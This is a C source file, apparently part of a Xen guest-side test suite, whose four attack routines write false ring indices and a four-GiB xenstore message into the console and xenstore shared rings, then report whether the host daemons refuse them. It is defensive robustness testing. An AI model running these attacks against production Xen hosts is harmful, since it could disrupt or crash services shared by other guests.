/* Attacks on the daemons behind the shared rings: indices and messages that lie. */
#include "rogue.h"

static void notify(uint32_t port)
{
	struct evtchn_send send = { .port = port };

	event_op(EVTCHNOP_send, &send);
}

static void wait_a_little(void)
{
	for (uint32_t i = 0; i < 200; i++)
		ask(__HYPERVISOR_sched_op, SCHEDOP_yield, 0, 0, 0);
}

/* A megabyte in a ring of two kilobytes: whoever believes it reads around and around. */
static void console_indices(void)
{
	volatile struct xencons_interface *ring;
	uint32_t produced, consumed;

	if (start_info->flags & SIF_INITDOMAIN) {
		report("skipped: no console ring");
		return;
	}
	ring = address_of_frame(start_info->console_mfn);
	produced = ring->out_prod;
	consumed = ring->out_cons;
	ring->out_prod = produced + 0x100000;
	notify(start_info->console_evtchn);
	wait_a_little();
	ring->out_prod = produced;
	ring->out_cons = consumed;
	report("no effect: the console still works");
}

static volatile struct xenstore_domain_interface *store(void)
{
	if (start_info->flags & SIF_INITDOMAIN) {
		report("skipped: no xenstore");
		return NULL;
	}
	return address_of_frame(start_info->store_mfn);
}

static void report_store(const volatile struct xenstore_domain_interface *ring)
{
	if (ring->error == XENSTORE_ERROR_NONE)
		report("no effect: no error, no reply");
	else if (ring->error == XENSTORE_ERROR_RINGIDX)
		report("refused: the daemon says the indices are wrong");
	else if (ring->error == XENSTORE_ERROR_PROTO)
		report("refused: the daemon says this is not its protocol");
	else
		report("refused: the daemon says there is an error");
}

static void xenstore_indices(void)
{
	volatile struct xenstore_domain_interface *ring = store();

	if (!ring)
		return;
	ring->req_prod = ring->req_cons + 5000;
	notify(start_info->store_evtchn);
	wait_a_little();
	report_store(ring);
}

static void xenstore_reply_indices(void)
{
	volatile struct xenstore_domain_interface *ring = store();
	static const struct xsd_sockmsg message = { .type = XS_DIRECTORY, .len = 2 };

	if (!ring)
		return;
	for (uint32_t i = 0; i < sizeof(message); i++)
		ring->req[i] = ((const uint8_t *)&message)[i];
	ring->req[sizeof(message)] = '/';
	ring->req[sizeof(message) + 1] = 0;
	ring->req_prod = ring->req_cons + sizeof(message) + 2;
	ring->rsp_cons = ring->rsp_prod + 7777;
	notify(start_info->store_evtchn);
	wait_a_little();
	report_store(ring);
}

static void xenstore_huge_message(void)
{
	volatile struct xenstore_domain_interface *ring = store();
	static const struct xsd_sockmsg message = { .type = XS_WRITE, .len = 0xffffffff };

	if (!ring)
		return;
	for (uint32_t i = 0; i < sizeof(message); i++)
		ring->req[i] = ((const uint8_t *)&message)[i];
	ring->req_prod = ring->req_cons + sizeof(message);
	notify(start_info->store_evtchn);
	wait_a_little();
	report_store(ring);
}

const struct attack ring_attacks[] = {
	{ "console-indices", "says that its console has a megabyte to read", console_indices },
	{ "xenstore-indices", "says that its xenstore ring has more than a ring holds", xenstore_indices },
	{ "xenstore-reply-indices", "says that it has read replies that never came", xenstore_reply_indices },
	{ "xenstore-huge-message", "sends xenstore a message of four GiB", xenstore_huge_message },
	ATTACKS_END,
};
